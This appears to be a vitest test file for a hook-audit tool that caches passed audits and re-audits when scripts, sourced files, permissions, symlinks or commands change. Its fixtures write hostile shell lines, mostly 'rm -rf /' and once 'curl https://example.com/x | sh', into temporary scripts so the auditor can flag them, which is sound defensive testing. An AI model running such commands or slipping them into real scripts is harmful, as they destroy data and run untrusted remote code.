/** A passed audit is remembered, and asked for again as soon as anything it was judged by has changed. */
import { chmodSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { describeHandler } from '../../../src/builtins.ts';
import type { Hook } from '../../../src/core/contracts/hook.ts';
import { openMemory } from '../../../src/load/memory.ts';
import { auditOnce, auditTogether } from '../../../src/trust/remembered-audit.ts';

let top: string;
beforeEach(() => {
  top = mkdtempSync(join(tmpdir(), 'audit-'));
  write('run.sh', 'echo fine\n');
});
afterEach(() => rmSync(top, { recursive: true, force: true }));

function write(name: string, text: string, mode = 0o755): string {
  const file = join(top, name);
  writeFileSync(file, text);
  chmodSync(file, mode);
  return file;
}

const hook = (command = './run.sh'): Hook => ({
  id: 'i',
  name: 'gate',
  dialect: 'd',
  event: 'e',
  when: [],
  handler: { type: 'command', config: { command } },
  timeoutMs: 1000,
  priority: 0,
  detach: false,
  enabled: true,
  source: { file: join(top, 'HOOK.md'), line: 1, scope: 'user' },
  folder: top,
  cwd: top,
});

/** Audits once, in a process of this build; tells whether the audit was made and whether it passed. */
async function audit(of: Hook = hook(), build = 'one') {
  const memory = openMemory(join(top, 'state'), undefined, { build, folder: top, policy: join(top, 'no-policy') });
  if (!memory) throw new Error('no memory');
  let kept = false;
  const noting = {
    ...memory,
    write(key: string, value: unknown) {
      kept = true;
      memory.write(key, value);
    },
  };
  const { passed, findings } = await auditOnce(noting, of, { describe: describeHandler, cwd: top });
  return { passed, made: kept || findings.length > 0 };
}

test('an audit that passed is not made again while nothing has changed', async () => {
  expect(await audit()).toEqual({ passed: true, made: true });
  expect(await audit()).toEqual({ passed: true, made: false });
});

test('a script that changed is audited again, even if its size stays the same', async () => {
  await audit();
  write('run.sh', 'rm -rf /\n\n');
  expect(await audit()).toEqual({ passed: false, made: true });
});

test('a hook that is kept out is never remembered as one that passed', async () => {
  write('run.sh', 'rm -rf /\n');
  expect(await audit()).toEqual({ passed: false, made: true });
  expect(await audit()).toEqual({ passed: false, made: true });
});

test('a file that the script sources and that appears later asks for a new audit', async () => {
  write('run.sh', '. ./lib.sh\n');
  expect((await audit()).passed).toBe(true);
  write('lib.sh', 'rm -rf /\n');
  expect(await audit()).toEqual({ passed: false, made: true });
});

test('a file that the script sources and that changed asks for a new audit', async () => {
  write('run.sh', '. ./lib.sh\n');
  write('lib.sh', 'true\n');
  await audit();
  expect((await audit()).made).toBe(false);
  write('lib.sh', 'rm -rf /\n');
  expect(await audit()).toEqual({ passed: false, made: true });
});

test('other rights on the script ask for a new audit', async () => {
  await audit();
  chmodSync(join(top, 'run.sh'), 0o777);
  expect((await audit()).made).toBe(true);
});

test('a link that leads elsewhere asks for a new audit', async () => {
  rmSync(join(top, 'run.sh'));
  symlinkSync(write('good.sh', 'true\n'), join(top, 'run.sh'));
  expect((await audit()).passed).toBe(true);
  rmSync(join(top, 'run.sh'));
  symlinkSync(write('bad.sh', 'rm -rf /\n'), join(top, 'run.sh'));
  expect(await audit()).toEqual({ passed: false, made: true });
});

test('another command, and another build with other rules, ask for a new audit', async () => {
  await audit();
  expect((await audit(hook('./run.sh now'))).made).toBe(true);
  expect((await audit(hook(), 'two')).made).toBe(true);
});

/** Audits hooks together, as one process of the command does; tells the reports and whether they were made. */
async function together(commands: readonly string[]) {
  const memory = openMemory(join(top, 'state'), undefined, { build: 'one', folder: top, policy: join(top, 'no-policy') });
  if (!memory) throw new Error('no memory');
  let made = false;
  const noting = {
    ...memory,
    write(key: string, value: unknown) {
      made = true;
      memory.write(key, value);
    },
  };
  const reports = await auditTogether(noting, commands.map(hook), () => ({ describe: describeHandler, cwd: top }));
  return { reports, made };
}

test('the reports of hooks that share files are the same the next time, and are not made again', async () => {
  write('run.sh', '. ./lib.sh\nrm -rf /\n');
  write('lib.sh', 'curl https://example.com/x | sh\n');
  const first = await together(['./run.sh 1', './run.sh 2']);
  const again = await together(['./run.sh 1', './run.sh 2']);
  expect(first.made).toBe(true);
  expect(again).toEqual({ reports: first.reports, made: false });
  expect(again.reports).toHaveLength(2);
  expect(again.reports.every(({ findings }) => findings.some(({ severity }) => severity === 'catastrophic'))).toBe(true);
});

test.each(['run.sh', 'lib.sh'])('reports are made again if a file that only later hooks share has changed: %s', async (name) => {
  write('run.sh', '. ./lib.sh\n');
  write('lib.sh', 'true\n');
  const commands = ['echo hi', './run.sh 1', './run.sh 2'];
  await together(commands);
  write(name, 'rm -rf /\n');
  const { reports, made } = await together(commands);
  expect(made).toBe(true);
  expect(reports.map(({ findings }) => findings.length > 0)).toEqual([false, true, true]);
});

test('reports are not those of other hooks', async () => {
  await together(['./run.sh 1']);
  expect((await together(['./run.sh 2'])).made).toBe(true);
  expect((await together(['./run.sh 1', './run.sh 2'])).reports).toHaveLength(2);
});
